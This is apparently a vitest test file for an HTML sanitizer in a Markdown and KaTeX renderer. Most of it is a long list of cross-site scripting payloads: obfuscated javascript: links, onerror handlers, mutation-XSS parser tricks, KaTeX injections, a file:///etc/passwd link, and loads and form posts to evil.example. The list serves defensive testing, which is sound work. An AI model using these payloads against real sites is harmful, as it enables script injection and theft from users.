/** What must never come out, whatever goes in. Every output is parsed again and looked through element by element. */

import { htmlToHast } from "satteri";
import { expect, test } from "vitest";
import { eachElement, type Parent, textOf } from "./hast.ts";
import { faultsOf } from "./safe-html.ts";
import { render } from "./test-vault.ts";

const page = (html: string) => htmlToHast(html, { fragment: true }) as Parent;

function elements(html: string): string[] {
  const names: string[] = [];
  eachElement(page(html), (node) => names.push(node.tagName));
  return names;
}

test.each([
  ["<b onclick=x>b</b>", ['<b onClick="x">']],
  ["<script>x</script>", ["<script>"]],
  ['<a href="javascript:x">a</a>', ['<a href="javascript:x">']],
  ['<p style="color:red">a</p>', ['<p style="color:red">']],
  ['<p id="app">a</p>', ['<p id="app">']],
  ["<!-- a -->", ["a comment"]],
  ['<span class="katex"><svg onload="x"></svg></span>', ['<svg onLoad="x"> in a formula']],
  [
    '<span class="katex"><span style="background:url(x)"></span></span>',
    ['style="background:url(x)" in a formula'],
  ],
])("the test's own eye sees the fault in %s", (html, faults) => {
  expect(faultsOf(html)).toEqual(faults);
});

const ATTACKS = [
  // scripts and handlers
  "<script>alert(1)</script>",
  "a <script>alert(1)</script> b",
  "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "<img src=x onerror=alert(1)>",
  '<img src="x`" `onerror=alert(1)>',
  "<img/src=x/onerror=alert(1)//",
  "<body onload=alert(1)>x",
  "<details open ontoggle=alert(1)>x</details>",
  '<b onmouseover="alert(1)" tabindex=1 accesskey=x autofocus contenteditable>x</b>',
  "<input type=text autofocus onfocus=alert(1)>",
  "<button formaction=javascript:alert(1)>x</button>",
  "<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>",
  "<marquee onstart=alert(1)>x</marquee>",
  "<isindex action=javascript:alert(1)>",
  // addresses
  "[x](javascript:alert(1))",
  "[x](JaVaScRiPt:alert(1))",
  "[x](  javascript:alert(1))",
  "[x](java&#x0A;script:alert(1))",
  "[x](&#106;&#97;&#118;ascript:alert(1))",
  "[x](javascript&colon;alert(1))",
  "[x](<java\tscript:alert(1)>)",
  "[x](vbscript:x) [y](data:text/html;base64,PHNjcmlwdD4=) [z](file:///etc/passwd)",
  "[x][r]\n\n[r]: javascript:alert(1)",
  "[r]\n\n[r]: <JAVASCRIPT:alert(1)> 'javascript:'",
  "<javascript:alert(1)>",
  "![x](javascript:alert(1)) ![y](data:text/html,x) ![z](data:image/svg+xml,<svg/onload=alert(1)>)",
  "[[javascript:alert(1)]] [[javascript:alert(1)|x]] ![[javascript:alert(1)]]",
  '{% embed url="javascript:alert(1)" %}\n\n{% embed url="//evil.example" %}',
  '<a href="&#1;javascript:alert(1)">x</a> <a href="jav&#x09;ascript:alert(1)">y</a>',
  '<a href="\u00a0javascript:alert(1)">x</a> <a href="\u200bjavascript:alert(1)">y</a>',
  '<a href="https://a.org" target=_blank ping=//evil.example rel=opener download>x</a>',
  '<a xlink:href="javascript:alert(1)" href=x>x</a>',
  '[demo](demo:javascript:alert(1)) [d](demo:rope?x="><script>alert(1)</script>)',
  "[x](/\\evil.example) [y](//evil.example) [z](\\\\evil.example)",
  // foreign content and text that changes when parsed twice
  "<svg><script>alert(1)</script></svg>",
  "<svg onload=alert(1)><a xlink:href=javascript:alert(1)><text>x</text></a><use href=data:x></svg>",
  "<svg><animate xlink:href=#x attributeName=href values=javascript:alert(1) /><a id=x>x</a></svg>",
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
  "<math href=javascript:alert(1)>x</math><math><maction actiontype=statusline xlink:href=javascript:alert(1)>x",
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></foreignObject></svg>',
  "<template><script>alert(1)</script></template><xmp><script>alert(1)</script></xmp>",
  "<textarea><script>alert(1)</script></textarea><title><img src=x onerror=alert(1)></title>",
  "<select><option><style></select><img src=x onerror=alert(1)></style>",
  "<plaintext><img src=x onerror=alert(1)>",
  "<![CDATA[<img src=x onerror=alert(1)>]]> <?php <img src=x onerror=alert(1)> ?>",
  "<!-->--><img src=x onerror=alert(1)>-->",
  "<a><table><a href=javascript:alert(1)>",
  // style, frames, forms, the page itself
  '<style>*{display:none}</style><p style="position:fixed;inset:0;background:url(//evil.example)">x</p>',
  '<link rel=stylesheet href=//evil.example><base href=//evil.example><meta http-equiv=refresh content="0;url=//evil.example">',
  "<iframe src=//evil.example></iframe><object data=x></object><embed src=x><applet code=x></applet>",
  "<form action=//evil.example method=post><input name=a value=b><button>x</button></form>",
  "<dialog open>x</dialog><frameset><frame src=x></frameset><portal src=x></portal>",
  "<p id=app name=getElementById>x</p><a id=__proto__ name=constructor>x</a><img name=body id=cookie src=wave.png>",
  '<div class="demo-open" data-demo="x" data-demo-source="y" role=button aria-hidden=true hidden>x</div>',
  '<pre data-info="x"><code class="language-demo">y</code></pre><code class="language-math">\\href{javascript:x}{y}</code>',
  "<font color=red><center><blink>x</blink></center></font><x-y is=z>x</x-y>",
  // KaTeX
  "$\\href{javascript:alert(1)}{x}$ $\\url{javascript:alert(1)}$ $\\href{https://a.org}{x}$",
  "$\\htmlData{demo=x,onclick=alert(1)}{x}$ $\\htmlClass{x}{y}$ $\\htmlId{app}{x}$ $\\htmlStyle{position:fixed}{x}$",
  "$\\includegraphics[height=9em]{https://evil.example/x.png}$",
  "$\\color{red;background:url(//evil.example)}x$ $\\colorbox{\\}{x}$",
  "$\\text{<img src=x onerror=alert(1)>}$ $\\verb|</annotation><script>alert(1)</script>|$ $<script>$",
  "$$\n</annotation></semantics></math><img src=x onerror=alert(1)>\n$$",
  '$\\unknown{<img src=x onerror=alert(1)>}$ $\\frac{"><script>alert(1)</script>$',
  '$\\tag{<script>}x$ $\\char"3C script\\char"3E$',
];

test.each(ATTACKS)("%j gives nothing that runs, loads, styles or names", (source) => {
  expect(faultsOf(render(source))).toEqual([]);
  expect(faultsOf(render(`- > ${source.replaceAll("\n", "\n  > ")}`, { demo: "line" }))).toEqual([]);
});

test("the words around an attack are still there", () => {
  expect(textOf(page(render("before <script>alert(1)</script><b onclick=x>bold</b> after")))).toBe(
    "before bold after",
  );
  expect(textOf(page(render("[click](javascript:alert(1)) me")))).toBe("click me");
  expect(textOf(page(render("<form>one</form> <center>two</center>")))).toBe("one two");
});

test("what KaTeX is not trusted with is shown by its name", () => {
  const html = render("$\\href{javascript:alert(1)}{x}$ $\\htmlData{a=b}{x}$");
  expect(elements(html)).not.toContain("a");
  expect(textOf(page(html))).toContain("\\href");
});

test("an author's id can't reach one of the app's", () => {
  expect(render("<p id=app>x</p>")).toBe('<p id="t-app">x</p>');
  expect(render("<p id='t-x'>x</p>")).toBe('<p id="t-t-x">x</p>');
  expect(render("<a href=#app>x</a>")).toBe(
    '<p><span class="unresolved" title="Nothing here is named “app”">x</span></p>',
  );
});
